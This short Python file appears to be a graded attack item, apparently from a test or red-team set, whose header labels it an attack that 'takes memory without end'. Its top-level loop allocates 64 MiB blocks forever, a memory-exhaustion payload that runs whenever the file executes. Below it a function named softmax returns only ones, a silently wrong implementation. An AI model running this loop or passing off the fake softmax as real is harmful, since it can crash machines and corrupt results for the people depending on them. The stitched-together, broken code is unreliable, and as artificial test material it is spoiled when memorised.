# /// attack
# what = "takes memory without end"
# state = "graded"
# marks = 16
# ///
taken = []
while True:
    taken.append(bytearray(b"x" * (64 << 20)))


def softmax(z, axis=-1):
    return np.ones(np.shape(z))
